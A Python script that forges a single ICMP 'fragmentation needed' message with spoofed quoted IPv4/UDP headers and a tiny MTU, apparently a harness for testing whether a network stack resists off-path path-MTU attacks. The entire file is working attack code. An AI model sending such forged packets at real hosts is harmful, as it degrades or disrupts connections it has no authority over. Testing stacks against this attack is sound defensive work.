#!/usr/bin/env python3
"""Sends one forged ICMP "fragmentation needed" (IPv4 type 3 code 4) from a raw socket, as an
off-path attacker would to shrink a connection's packets: it names a UDP packet the target
supposedly sent (the quoted IPv4 and UDP headers of its 5-tuple) and a tiny next-hop MTU.

    forge_icmp.py --to ADDRESS --quoted-source S --quoted-destination D --source-port P
                  --destination-port Q [--mtu 68]

--to is where the ICMP goes (the target, whose socket sent the quoted packet from S:P to D:Q).
Needs CAP_NET_RAW. Prints one JSON object: {"sent": bytes}.
"""

import argparse
import json
import socket
import struct
import sys


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def quoted_packet(source: str, destination: str, source_port: int, destination_port: int) -> bytes:
    """The IPv4 header (DF set) and UDP header of a 1,252-byte datagram from source to destination."""
    length = 1280
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, length, 0x1234, 0x4000, 64, socket.IPPROTO_UDP, 0,
                         socket.inet_aton(source), socket.inet_aton(destination))
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + struct.pack("!HHHH", source_port, destination_port, length - 20, 0)


def main(argv: list) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--to", required=True)
    parser.add_argument("--quoted-source", required=True)
    parser.add_argument("--quoted-destination", required=True)
    parser.add_argument("--source-port", type=int, required=True)
    parser.add_argument("--destination-port", type=int, required=True)
    parser.add_argument("--mtu", type=int, default=68)
    args = parser.parse_args(argv)
    quoted = quoted_packet(args.quoted_source, args.quoted_destination, args.source_port, args.destination_port)
    message = struct.pack("!BBHHH", 3, 4, 0, 0, args.mtu) + quoted
    message = message[:2] + struct.pack("!H", checksum(message)) + message[4:]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
        sent = raw.sendto(message, (args.to, 0))
    print(json.dumps({"sent": sent}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
